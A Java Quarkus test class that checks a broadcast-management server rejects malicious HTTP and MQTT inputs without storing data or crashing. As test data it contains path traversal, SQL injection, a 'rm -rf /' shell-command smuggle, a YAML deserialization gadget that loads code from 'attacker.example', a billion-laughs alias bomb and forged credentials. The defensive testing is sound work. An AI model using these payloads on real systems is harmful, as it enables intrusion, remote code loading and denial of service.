package vn.loaxa.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static vn.loaxa.support.Api.asAdmin;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.config.LogConfig;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import vn.loaxa.area.model.AreaOutlineRepository;
import vn.loaxa.area.model.AreaRepository;
import vn.loaxa.bulletin.model.BulletinRepository;
import vn.loaxa.delivery.model.DeliveryEventRepository;
import vn.loaxa.dispatch.broker.EmbeddedBroker;
import vn.loaxa.dispatch.mqtt.MqttConfig;
import vn.loaxa.dispatch.mqtt.MqttDrops;
import vn.loaxa.dispatch.mqtt.Topics;
import vn.loaxa.media.model.MediaRepository;
import vn.loaxa.receiver.model.ReceiverRepository;
import vn.loaxa.schedule.model.BroadcastRepository;
import vn.loaxa.support.Fixtures;
import vn.loaxa.support.TestMqttClient;

/**
 * The hardened-inputs table (docs/security.md): each malicious input, on each surface, gets a clear error (a 4xx
 * problem+json, or a logged and counted MQTT drop), stores nothing, and leaves the server serving.
 */
@QuarkusTest
class MaliciousInputTest {
    private static final String AREA = "MAL";
    private static final String RX = "mal-rx-1";

    @Inject
    AreaRepository areas;

    @Inject
    ReceiverRepository receivers;

    @Inject
    MediaRepository media;

    @Inject
    BulletinRepository bulletins;

    @Inject
    BroadcastRepository broadcasts;

    @Inject
    DeliveryEventRepository events;

    @Inject
    MqttDrops drops;

    @Inject
    AreaOutlineRepository outlines;

    @Inject
    MqttConfig mqtt;

    @Inject
    EmbeddedBroker broker;

    private static void ensureTargets() {
        if (asAdmin().get("/api/v1/receivers/" + RX).statusCode() == 404) {
            Fixtures.area(AREA, "COMMUNE", null);
            Fixtures.receiver(RX, AREA, List.of("vie"));
        }
    }

    private record HttpCase(String name, Supplier<Response> request) {}

    private record MqttCase(String name, Topics.Kind kind, String receiverInTopic, byte[] payload, String reason) {}

    @TestFactory
    Stream<DynamicTest> everyMaliciousHttpInputIsRefusedAndStoresNothing() {
        ensureTargets();
        String future = OffsetDateTime.now(ZoneOffset.UTC).plusDays(1).toString();
        List<HttpCase> cases = List.of(
                new HttpCase(
                        "upload without a file",
                        () -> asAdmin()
                                .multiPart("title", "x")
                                .multiPart("language", "vie")
                                .post("/api/v1/media")),
                new HttpCase("empty upload", () -> upload("empty.wav", new byte[0])),
                new HttpCase("file name with path traversal", () -> upload("../../etc/passwd.wav", "RIFF".getBytes())),
                new HttpCase("upload over the size limit", () -> upload("huge.wav", new byte[3 * 1024 * 1024])),
                new HttpCase("malformed JSON", () -> json("{\"code\": \"X\", ", "/api/v1/areas")),
                new HttpCase("JSON array where an object belongs", () -> json("[1,2,3]", "/api/v1/areas")),
                new HttpCase(
                        "SQL in an area code",
                        () -> json(
                                Map.of("code", "X'; DROP TABLE area;--", "name", "x", "kind", "COMMUNE"),
                                "/api/v1/areas")),
                new HttpCase(
                        "10,000-character area name",
                        () -> json(
                                Map.of("code", "LONGNAME", "name", "x".repeat(10_000), "kind", "COMMUNE"),
                                "/api/v1/areas")),
                new HttpCase(
                        "unknown enum value",
                        () -> json(Map.of("code", "ENUM1", "name", "x", "kind", "GALAXY"), "/api/v1/areas")),
                new HttpCase(
                        "receiver id with a path",
                        () -> json(
                                Map.of(
                                        "id",
                                        "../admin",
                                        "displayName",
                                        "x",
                                        "areaCode",
                                        AREA,
                                        "languages",
                                        List.of("vie")),
                                "/api/v1/receivers")),
                new HttpCase(
                        "receiver id with MQTT wildcards",
                        () -> json(
                                Map.of("id", "rx/#", "displayName", "x", "areaCode", AREA, "languages", List.of("vie")),
                                "/api/v1/receivers")),
                new HttpCase(
                        "broadcast of an unknown bulletin",
                        () -> json(
                                Map.of(
                                        "bulletinId",
                                        UUID.randomUUID().toString(),
                                        "startAt",
                                        future,
                                        "targets",
                                        Map.of("areas", List.of(AREA))),
                                "/api/v1/broadcasts")),
                new HttpCase(
                        "RRULE with an injected line",
                        () -> json(
                                Map.of(
                                        "startAt",
                                        future,
                                        "recurrence",
                                        Map.of("rrule", "FREQ=DAILY;COUNT=3\r\nX-EVIL:1")),
                                "/api/v1/broadcasts/preview")),
                new HttpCase(
                        "time zone that is a path",
                        () -> json(
                                Map.of(
                                        "startAt",
                                        future,
                                        "recurrence",
                                        Map.of("rrule", "FREQ=DAILY;COUNT=2"),
                                        "timeZone",
                                        "../../etc/localtime"),
                                "/api/v1/broadcasts/preview")),
                new HttpCase(
                        "volume out of range",
                        () -> json(
                                Map.of("type", "SET_VOLUME", "volume", 100_000),
                                "/api/v1/receivers/" + RX + "/commands")),
                new HttpCase(
                        "text to speech in an unknown language",
                        () -> json(Map.of("text", "xin chào", "language", "zzz"), "/api/v1/media/tts")),
                new HttpCase(
                        "text to speech with a shell command as voice",
                        () -> json(
                                Map.of("text", "xin chào", "language", "vie", "voice", "vi; rm -rf /"),
                                "/api/v1/media/tts")),
                new HttpCase(
                        "schedule file with a Java type tag",
                        () -> schedule(
                                "- !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                                        + " [\"http://attacker.example/\"]]]]\n")),
                new HttpCase("schedule file with an alias bomb", () -> schedule(aliasBomb())),
                new HttpCase("schedule file over the size limit", () -> schedule("# " + "x".repeat(300 * 1024))),
                new HttpCase(
                        "area outline nested 100,000 arrays deep",
                        () -> outline("{\"type\":\"Polygon\"," + "\"coordinates\":" + "[".repeat(100_000)
                                + "]".repeat(100_000) + "}")),
                new HttpCase(
                        "area outline of two million characters",
                        () -> outline("{\"type\":\"Polygon\"," + "\"coordinates\":[[[1,1],[2,1],[2,2],[1,1]"
                                + ",[1,1]".repeat(400_000) + "]]}")),
                new HttpCase(
                        "API token that was never issued",
                        () -> RestAssured.given()
                                .header("Authorization", "Bearer lxa_forged")
                                .contentType(ContentType.JSON)
                                .body("{\"code\":\"TOK\",\"name\":\"x\",\"kind\":\"COMMUNE\"}")
                                .post("/api/v1/areas")),
                new HttpCase(
                        "form change without the page's header",
                        () -> RestAssured.given()
                                .cookie("quarkus-credential", "forged")
                                .contentType(ContentType.JSON)
                                .body("{\"code\":\"CSRF\",\"name\":\"x\",\"kind\":\"COMMUNE\"}")
                                .post("/api/v1/areas")));
        return cases.stream()
                .map(c -> DynamicTest.dynamicTest(c.name(), () -> {
                    Map<String, Long> before = counts();
                    Response response = c.request().get();

                    assertThat(response.statusCode()).as(c.name()).isBetween(400, 499);
                    if (response.statusCode() != 413) {
                        assertThat(response.contentType()).as(c.name()).startsWith("application/problem+json");
                    }
                    assertThat(counts()).as(c.name() + ": nothing stored").isEqualTo(before);
                    RestAssured.get("/q/health/live").then().statusCode(200);
                }));
    }

    @TestFactory
    Stream<DynamicTest> everyMaliciousMqttPayloadIsDroppedCountedAndStoresNothing() {
        ensureTargets();
        String event = "{\"schema\":\"loaxa.event/1\",\"id\":\"%s\",\"receiverId\":\"%s\",\"occurrenceId\":\"%s\","
                + "\"event\":\"PLAYED\",\"at\":\"%s\"}";
        List<MqttCase> cases = List.of(
                new MqttCase("payload over the size limit", Topics.Kind.EVENT, RX, new byte[64 * 1024], "too-large"),
                new MqttCase(
                        "binary garbage",
                        Topics.Kind.EVENT,
                        RX,
                        new byte[] {(byte) 0xff, 0, 1, (byte) 0xfe},
                        "malformed"),
                new MqttCase(
                        "unknown schema",
                        Topics.Kind.EVENT,
                        RX,
                        "{\"schema\":\"loaxa.event/99\"}".getBytes(StandardCharsets.UTF_8),
                        "schema"),
                new MqttCase(
                        "event naming another receiver",
                        Topics.Kind.EVENT,
                        RX,
                        event.formatted(UUID.randomUUID(), "someone-else", UUID.randomUUID(), Instant.now())
                                .getBytes(StandardCharsets.UTF_8),
                        "receiver-mismatch"),
                new MqttCase(
                        "event for an occurrence never sent",
                        Topics.Kind.EVENT,
                        RX,
                        event.formatted(UUID.randomUUID(), RX, UUID.randomUUID(), Instant.now())
                                .getBytes(StandardCharsets.UTF_8),
                        "unknown-delivery"),
                new MqttCase(
                        "status of an unregistered receiver",
                        Topics.Kind.STATUS,
                        "ghost-rx",
                        ("{\"schema\":\"loaxa.status/1\",\"receiverId\":\"ghost-rx\",\"online\":true,\"at\":\""
                                        + Instant.now() + "\"}")
                                .getBytes(StandardCharsets.UTF_8),
                        "unknown-receiver"));
        Topics topics = new Topics(mqtt.topicPrefix());
        return cases.stream()
                .map(c -> DynamicTest.dynamicTest(c.name(), () -> {
                    Map<String, Long> before = counts();
                    double dropped = drops.count(c.reason());
                    try (TestMqttClient client =
                            new TestMqttClient(mqtt.url().or(broker::url).orElseThrow())) {
                        client.publishBytes(topics.receiver(c.receiverInTopic(), c.kind()), c.payload());
                    }

                    await(c.name()).atMost(Duration.ofSeconds(10)).until(() -> drops.count(c.reason()) > dropped);
                    assertThat(counts()).as(c.name() + ": nothing stored").isEqualTo(before);
                    RestAssured.get("/q/health/live").then().statusCode(200);
                }));
    }

    @org.junit.jupiter.api.Test
    void aFloodFromOneReceiverIsCutOffAndCountedWhileOthersGoOn() throws Exception {
        ensureTargets();
        Topics topics = new Topics(mqtt.topicPrefix());
        double limited = drops.count("rate-limited");
        double unknownBefore = drops.count("unknown-receiver");
        try (TestMqttClient client =
                new TestMqttClient(mqtt.url().or(broker::url).orElseThrow())) {
            for (int i = 0; i < 1000; i++) {
                client.publishAtMostOnce(
                        topics.receiver("flood-rx", Topics.Kind.HEARTBEAT),
                        "{\"schema\":\"loaxa.heartbeat/1\"}".getBytes(StandardCharsets.UTF_8));
            }
            client.publishBytes(
                    topics.receiver("calm-rx", Topics.Kind.STATUS),
                    ("{\"schema\":\"loaxa.status/1\"," + "\"receiverId\":\"calm-rx\",\"online\":true,\"at\":\""
                                    + Instant.now() + "\"}")
                            .getBytes(StandardCharsets.UTF_8));
        }
        await().atMost(Duration.ofSeconds(20))
                .until(() -> drops.count("rate-limited") - limited >= 100
                        && drops.count("unknown-receiver") > unknownBefore);
        RestAssured.get("/q/health/live").then().statusCode(200);
    }

    private Map<String, Long> counts() {
        return Map.of(
                "areas",
                areas.count(),
                "receivers",
                receivers.count(),
                "media",
                media.count(),
                "bulletins",
                bulletins.count(),
                "broadcasts",
                broadcasts.count(),
                "events",
                events.count(),
                "outlines",
                outlines.count());
    }

    private static Response upload(String fileName, byte[] content) {
        return asAdmin()
                .multiPart("file", fileName, content, "audio/wav")
                .multiPart("title", "x")
                .multiPart("language", "vie")
                .post("/api/v1/media");
    }

    private static Response json(Object body, String path) {
        return asAdmin().contentType(ContentType.JSON).body(body).post(path);
    }

    /** Without pretty-printing of the logged request: indenting 100,000 levels would exhaust the test's own heap. */
    private static Response outline(String body) {
        return asAdmin()
                .config(RestAssured.config().logConfig(LogConfig.logConfig().enablePrettyPrinting(false)))
                .contentType(ContentType.JSON)
                .body(body)
                .put("/api/v1/areas/" + AREA + "/outline");
    }

    private static Response schedule(String yaml) {
        return json(Map.of("files", List.of(Map.of("name", "evil.yaml", "content", yaml))), "/api/v1/schedules/apply");
    }

    /** Nine levels of ten aliases each: a billion entries if expanded. */
    private static String aliasBomb() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [\"lol\"]\n");
        for (int level = 1; level <= 9; level++) {
            yaml.append('a').append(level).append(": &a").append(level).append(" [");
            for (int i = 0; i < 10; i++) {
                yaml.append(i == 0 ? "" : ",").append("*a").append(level - 1);
            }
            yaml.append("]\n");
        }
        return yaml.toString();
    }
}
